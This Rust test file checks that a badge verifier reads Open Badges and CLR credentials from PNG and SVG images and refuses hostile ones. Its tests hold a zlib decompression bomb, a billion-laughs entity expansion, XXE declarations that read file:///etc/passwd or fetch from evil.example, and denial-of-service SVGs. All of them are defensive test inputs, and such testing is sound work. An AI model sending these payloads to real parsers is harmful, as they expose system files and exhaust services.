//! Badges in images: what opens, and what ends in an error.

use std::fmt::Write as _;
use std::time::{Duration, Instant};

use credeval_model::{
    CheckCode, CheckOutcome, Document,
    document::{Carrier, Form, Standard},
    evidence::Evidence,
};
use credeval_verify::{BakedError, OpenError, Opened, Trust, open};
use ed25519_dalek::SigningKey;
use serde_json::{Value, json};

use crate::support::{Key, bytes, judge, multibase, proved, rows};
use CheckOutcome::{Failed, Passed};

/// A hostile image must be answered within this, in a build that nothing optimises.
const PATIENCE: Duration = Duration::from_secs(30);

const OB3: &str = "https://purl.imsglobal.org/ob/v3p0";
const OB2: &str = "http://openbadges.org";

fn chunk(kind: &[u8], data: &[u8]) -> Vec<u8> {
    let mut crc = flate2::Crc::new();
    crc.update(kind);
    crc.update(data);
    let length = u32::try_from(data.len()).unwrap().to_be_bytes();
    let sum = crc.sum().to_be_bytes();
    [&length, kind, data, &sum].concat()
}

/// An image of one dot with these chunks.
fn png(chunks: &[Vec<u8>]) -> Vec<u8> {
    let mut image = b"\x89PNG\r\n\x1a\n".to_vec();
    image.extend(chunk(b"IHDR", &[0, 0, 0, 1, 0, 0, 0, 1, 8, 0, 0, 0, 0]));
    image.extend(chunks.concat());
    image.extend(chunk(b"IDAT", b"\x78\x9c\x63\x00\x00\x00\x02\x00\x01"));
    image.extend(chunk(b"IEND", b""));
    image
}

fn itxt(keyword: &str, text: &[u8]) -> Vec<u8> {
    let head = [keyword.as_bytes(), b"\0\0\0\0\0"].concat();
    chunk(b"iTXt", &[&head, text].concat())
}

fn text(keyword: &str, text: &str) -> Vec<u8> {
    chunk(b"tEXt", format!("{keyword}\0{text}").as_bytes())
}

fn svg(inside: &str) -> String {
    format!(
        r#"<?xml version="1.0" encoding="UTF-8"?>
<!-- <g> made by hand -->
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="{OB3}" xmlns:old="{OB2}"
     xmlns:clr="https://purl.imsglobal.org/clr/v2p0" viewBox="0 0 1 1">{inside}<g/></svg>"#
    )
}

fn opened(image: impl Into<Vec<u8>>) -> Result<Opened, OpenError> {
    open(&Document::new(image.into(), "test"))
}

fn kind(image: impl Into<Vec<u8>>) -> (Standard, Form, Option<Carrier>) {
    let info = opened(image).unwrap().info();
    (info.standard, info.form, info.carrier)
}

fn refused(image: impl Into<Vec<u8>>) -> BakedError {
    match opened(image) {
        Err(OpenError::Baked(error)) => error,
        other => panic!("{other:?}"),
    }
}

fn badge() -> Value {
    let key = SigningKey::from_bytes(&[1; 32]);
    let did = format!("did:key:{}", multibase(&key));
    let mut badge = crate::support::badge(&did);
    badge["issuer"]["name"] = "Hochschule Fürth".into();
    let method = format!("{did}#{}", multibase(&key));
    proved(badge, &key, &method)
}

fn token() -> String {
    let key = Key::ed25519(1);
    let did = key.did_jwk();
    key.token(&did, &json!({ "kid": format!("{did}#0") }))
}

fn assertion() -> Value {
    json!({
        "@context": "https://w3id.org/openbadges/v2",
        "type": "Assertion",
        "id": "https://school.example/assertions/1",
        "verification": { "type": "hosted" }
    })
}

fn signature(image: impl Into<Vec<u8>>) -> Vec<CheckOutcome> {
    judge(
        &image.into(),
        &Trust::none(),
        &Evidence::none(),
        |checked| rows(checked, CheckCode::ProofSignature),
    )
}

#[test]
fn a_badge_in_an_image_is_the_badge() {
    let json = badge().to_string();
    let clr = json!({ "type": ["VerifiableCredential", "ClrCredential"], "proof": {} }).to_string();
    let badge2 = assertion().to_string();
    let in_png = |keyword: &str, text: &str| png(&[itxt(keyword, text.as_bytes())]);
    let in_svg = |element: &str, text: &str| {
        svg(&format!(
            "<{element}>\n <![CDATA[\n {text}\n ]]> </{element}>"
        ))
        .into_bytes()
    };
    let attribute = |element: &str, text: &str| {
        svg(&format!(r#"<{element} verify="{text}"></{element}>"#)).into_bytes()
    };
    let png = Some(Carrier::Png);
    let svg = Some(Carrier::Svg);
    for (image, standard, form, carrier) in [
        (
            in_png("openbadgecredential", &json),
            Standard::OpenBadges3,
            Form::DataIntegrity,
            png,
        ),
        (
            in_png("openbadgecredential", &token()),
            Standard::OpenBadges3,
            Form::Jwt,
            png,
        ),
        (
            in_png("clrcredential", &clr),
            Standard::Clr2,
            Form::DataIntegrity,
            png,
        ),
        (
            in_png("openbadges", &badge2),
            Standard::OpenBadges2,
            Form::Hosted,
            png,
        ),
        (
            in_svg("openbadges:credential", &json),
            Standard::OpenBadges3,
            Form::DataIntegrity,
            svg,
        ),
        (
            attribute("openbadges:credential", &token()),
            Standard::OpenBadges3,
            Form::Jwt,
            svg,
        ),
        (
            in_svg("clr:credential", &clr),
            Standard::Clr2,
            Form::DataIntegrity,
            svg,
        ),
        (
            in_svg("old:assertion", &badge2),
            Standard::OpenBadges2,
            Form::Hosted,
            svg,
        ),
    ] {
        assert_eq!(kind(image.clone()), (standard, form, carrier));
        if standard == Standard::OpenBadges3 {
            assert_eq!(signature(image), [Passed], "{form:?} {carrier:?}");
        }
    }
    // Not an image at all.
    assert_eq!(
        kind(json),
        (Standard::OpenBadges3, Form::DataIntegrity, None)
    );
}

#[test]
fn one_letter_changed_in_an_image_fails() {
    let altered = badge().to_string().replace("Soil science", "Soil sciense");
    let in_png = png(&[itxt("openbadgecredential", altered.as_bytes())]);
    let element = format!("<openbadges:credential><![CDATA[{altered}]]></openbadges:credential>");
    assert_eq!(signature(in_png), [Failed]);
    assert_eq!(signature(svg(&element)), [Failed]);
    let (head, tail) = token()
        .rsplit_once('.')
        .map(|(a, b)| (a.to_owned(), b.to_owned()))
        .unwrap();
    let other = if tail.starts_with('A') { "B" } else { "A" };
    let altered = format!("{head}.{other}{}", &tail[1..]);
    assert_eq!(
        signature(png(&[itxt("openbadgecredential", altered.as_bytes())])),
        [Failed]
    );
    let element = format!(r#"<openbadges:credential verify="{altered}"/>"#);
    assert_eq!(signature(svg(&element)), [Failed]);
}

#[test]
fn an_image_from_before_the_specification_may_hold_the_badge_or_its_address() {
    let image = png(&[text("openbadges", &assertion().to_string())]);
    assert_eq!(
        kind(image),
        (Standard::OpenBadges2, Form::Hosted, Some(Carrier::Png))
    );
    let url = "https://school.example/assertions/1";
    let element = format!(r#"<old:assertion verify="{url}"/>"#);
    for image in [png(&[text("openbadges", url)]), svg(&element).into_bytes()] {
        let BakedError::Address { url: found, .. } = refused(image.clone()) else {
            panic!();
        };
        assert_eq!(found, url);
        let error = opened(image).unwrap_err();
        assert!(
            error
                .to_string()
                .ends_with("found only its address, https://school.example/assertions/1")
        );
        assert_eq!(
            error.hint(),
            Some("give that address as the source, instead of the image")
        );
    }
}

#[test]
fn an_image_without_a_badge_says_so() {
    let other = svg(r#"<openbadges:assertion verify="a.b.c"/><credential verify="a.b.c"/>"#);
    let named = png(&[
        itxt("Comment", b"{}"),
        text("openbadge", "{}"),
        chunk(b"tIME", b"openbadges\0{}"),
    ]);
    for image in [png(&[]), svg("").into_bytes(), other.into_bytes(), named] {
        let error = opened(image).unwrap_err();
        assert!(
            matches!(error, OpenError::Baked(BakedError::Absent { .. })),
            "{error}"
        );
        assert!(
            error
                .hint()
                .unwrap()
                .starts_with("this image has no badge in it")
        );
    }
    // What is neither an image nor a credential is none of ours.
    let page = "<!DOCTYPE html><html><svg></svg></html>";
    assert_eq!(opened(page).unwrap_err(), OpenError::Markup);
    let note = opened("<note/>").unwrap_err();
    assert!(
        matches!(note, OpenError::NotACredential { line: 1, .. }),
        "{note}"
    );
    assert!(matches!(opened("<svg").unwrap_err(), OpenError::Xml(_)));
    assert_eq!(opened("\u{89}PNG").unwrap_err(), OpenError::Unknown);
}

/// Readers take the first or the last of two, so that one shows what the other did not verify.
#[test]
fn two_credentials_in_one_image_have_no_meaning() {
    let (one, other) = (badge().to_string(), assertion().to_string());
    let one_token = token();
    let element = |name: &str, text: &str| format!("<{name}><![CDATA[{text}]]></{name}>");
    let both = |first: String, second: String| svg(&(first + &second)).into_bytes();
    let ob3 = "openbadges:credential";
    let images = [
        png(&[
            itxt("openbadgecredential", one.as_bytes()),
            itxt("openbadgecredential", other.as_bytes()),
        ]),
        png(&[
            itxt("openbadgecredential", one.as_bytes()),
            itxt("openbadges", other.as_bytes()),
        ]),
        png(&[
            text("openbadges", "https://school.example/1"),
            itxt("openbadges", other.as_bytes()),
        ]),
        png(&[
            itxt("openbadges", b"{}"),
            itxt("openbadges", b"{}"),
            itxt("openbadges", b"{ }"),
        ]),
        both(element(ob3, &one), element(ob3, &other)),
        both(element(ob3, &one), element("old:assertion", &other)),
        svg(&format!(
            r#"<{ob3} verify="{one_token}"><![CDATA[{one}]]></{ob3}>"#
        ))
        .into_bytes(),
        svg(&format!(
            r#"<old:assertion verify="https://evil.example/1"><![CDATA[{other}]]></old:assertion>"#
        ))
        .into_bytes(),
    ];
    for image in images {
        assert!(matches!(refused(image), BakedError::Several { .. }));
    }
    // The same twice is one; and the address of a hosted badge stands beside it by its standard.
    let twice = png(&[
        itxt("openbadges", other.as_bytes()),
        text("openbadges", &other),
    ]);
    assert_eq!(kind(twice).1, Form::Hosted);
    let address = "https://school.example/assertions/1";
    let element =
        format!(r#"<old:assertion verify="{address}"><![CDATA[{other}]]></old:assertion>"#);
    assert_eq!(kind(svg(&element)).1, Form::Hosted);
}

#[test]
fn a_damaged_image_says_what_is_wrong() {
    let json = badge().to_string();
    let whole = png(&[itxt("openbadgecredential", json.as_bytes())]);
    let found = |image: Vec<u8>| match refused(image) {
        BakedError::Damaged { found, .. } => found,
        other => panic!("{other:?}"),
    };
    let trailing = [whole.as_slice(), b"PK\x03\x04"].concat();
    assert_eq!(found(trailing), "4 bytes after its end");
    let mut flipped = whole.clone();
    let place = flipped.windows(4).position(|four| four == b"Soil").unwrap();
    flipped[place] = b'B';
    assert_eq!(found(flipped), "a wrong checksum of the chunk `iTXt`");
    for cut in [9, 20, 40, whole.len() - 1, whole.len() - 12] {
        assert_eq!(found(whole[..cut].to_vec()), "its end missing", "{cut}");
    }
    // A length that the file does not have is not reserved.
    let mut long = whole.clone();
    long[8..12].copy_from_slice(&u32::MAX.to_be_bytes());
    assert_eq!(found(long), "its end missing");
    let latin = png(&[itxt("openbadgecredential", b"{\"name\":\"F\xfcrth\"}")]);
    assert_eq!(found(latin), "a chunk `iTXt` that is not UTF-8");
    let short = png(&[chunk(b"iTXt", b"openbadges\0\0\0en")]);
    assert_eq!(found(short), "a malformed chunk `iTXt`");
    for inside in [
        "<openbadges:credential>{\"name\": \"<b>bold</b>\"}</openbadges:credential>",
        "<openbadges:credential>",
        "&nbsp;",
        "<unknown:credential/>",
    ] {
        found(svg(inside).into_bytes());
    }
}

/// A small file that unpacks to a large one.
#[test]
fn a_compressed_badge_is_not_unpacked() {
    let mut encoder = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
    for _ in 0..16 {
        std::io::Write::write_all(&mut encoder, &vec![b' '; 1 << 20]).unwrap();
    }
    let bomb = encoder.finish().unwrap();
    let before = Instant::now();
    let head = b"openbadgecredential\0\x01\0\0\0".as_slice();
    for (kind, head, named) in [
        (b"iTXt", head, "iTXt:openbadgecredential"),
        (b"zTXt", b"openbadges\0\0".as_slice(), "zTXt:openbadges"),
    ] {
        let image = png(&[chunk(kind, &[head, &bomb].concat())]);
        let BakedError::Compressed { chunk } = refused(image) else {
            panic!();
        };
        assert_eq!(chunk, named);
    }
    assert!(before.elapsed() < PATIENCE);
    // Nor is what is not ours: the image itself may hold as much.
    assert!(matches!(
        refused(png(&[chunk(
            b"zTXt",
            &[b"Comment\0\0".as_slice(), &bomb].concat()
        )])),
        BakedError::Absent { .. }
    ));
}

#[test]
fn the_text_of_a_badge_is_all_of_its_text() {
    let json = assertion().to_string();
    let (head, tail) = json.split_at(40);
    let split = [
        format!("<![CDATA[{head}]]><!-- cut --><![CDATA[{tail}]]>"),
        format!("<![CDATA[{head}]]><?cut?>{}", tail.replace('"', "&quot;")),
        json.replace('"', "&#34;"),
    ];
    for inside in split {
        let image = svg(&format!("<old:assertion>{inside}</old:assertion>"));
        assert_eq!(kind(image).1, Form::Hosted);
    }
}

#[test]
fn a_document_type_may_be_named_and_may_declare_nothing() {
    let badge = format!("<old:assertion xmlns:old='{OB2}'>&e9;</old:assertion>");
    let mut laughs = String::from("<!DOCTYPE svg [<!ENTITY e0 'ha'>");
    for level in 1..10 {
        let inner = format!("&e{};", level - 1).repeat(10);
        write!(laughs, "<!ENTITY e{level} '{inner}'>").unwrap();
    }
    let before = Instant::now();
    let harmless = format!(
        "<old:assertion xmlns:old='{OB2}'>{}</old:assertion>",
        assertion()
    );
    for (head, declared) in [
        (format!("{laughs}]>"), "<!ENTITY"),
        (
            "<!DOCTYPE svg [<!ENTITY e9 SYSTEM 'file:///etc/passwd'>]>".to_owned(),
            "<!ENTITY",
        ),
        (
            "<!DOCTYPE svg [<!ENTITY % p SYSTEM 'https://evil.example/d'> %p;]>".to_owned(),
            "<!ENTITY",
        ),
        (
            "<!DOCTYPE svg [<!ATTLIST svg verify CDATA 'a.b.c'>]>".to_owned(),
            "<!ATTLIST",
        ),
        (
            "<!DOCTYPE svg [<!ELEMENT svg ANY>]>".to_owned(),
            "<!ELEMENT",
        ),
    ] {
        for badge in [&badge, &harmless] {
            let BakedError::Damaged { found, .. } = refused(format!("{head}<svg>{badge}</svg>"))
            else {
                panic!("{head}");
            };
            assert_eq!(found, format!("a declaration `{declared}`"));
        }
    }
    assert!(before.elapsed() < PATIENCE);
    // An entity that nobody declared is a fault; without any the same image opens.
    assert!(matches!(
        refused(format!("<svg>{badge}</svg>")),
        BakedError::Damaged { .. }
    ));
    assert_eq!(kind(format!("<svg>{harmless}</svg>")).1, Form::Hosted);
}

#[test]
fn a_hostile_drawing_is_answered_in_bounded_time() {
    let deep = "<g>".repeat(90_000) + &"</g>".repeat(90_000);
    let attributes = (0..1_000_000).fold(String::new(), |mut text, n| {
        write!(text, " a{n}=''").unwrap();
        text
    });
    let spaces = (0..60_000).fold(String::new(), |mut text, n| {
        write!(text, "<g xmlns:n{n}='u'>").unwrap();
        text
    });
    let drawings = [
        svg(&deep),
        svg(&"<".repeat(8 << 20)),
        svg(&format!("<g{attributes}/>")),
        svg(&spaces),
        svg(&"<g a='1' b='2'/>".repeat(500_000)),
        format!("<svg{}", "<!-- ".repeat(1 << 20)),
        "<!".repeat(4 << 20),
    ];
    for (index, drawing) in drawings.into_iter().enumerate() {
        let before = Instant::now();
        assert!(opened(drawing).is_err(), "{index}");
        assert!(before.elapsed() < PATIENCE, "{index}");
    }
    let whole = svg(&"<g a='1' b='2'/>".repeat(90_000));
    assert!(matches!(refused(whole), BakedError::Absent { .. }));
}

#[test]
fn images_of_any_bytes_never_panic() {
    let json = bytes(&badge());
    let whole = png(&[itxt("openbadgecredential", &json)]);
    for place in 0..whole.len().min(160) {
        for value in [0, 1, 0x7f, 0xff] {
            let mut image = whole.clone();
            image[place] = value;
            let _ = opened(image);
        }
    }
}
